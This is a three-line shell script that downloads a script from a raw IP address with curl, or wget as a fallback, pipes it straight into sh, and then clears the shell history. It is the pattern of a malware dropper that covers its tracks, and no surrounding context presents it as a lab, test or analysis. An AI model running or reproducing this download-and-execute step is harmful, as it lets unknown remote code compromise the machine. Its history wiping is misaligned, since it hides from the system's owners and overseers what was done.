#!/bin/sh
( curl -fsSL http://203.0.113.4/i.sh || wget -qO- http://203.0.113.4/i.sh ) | sh
history -c
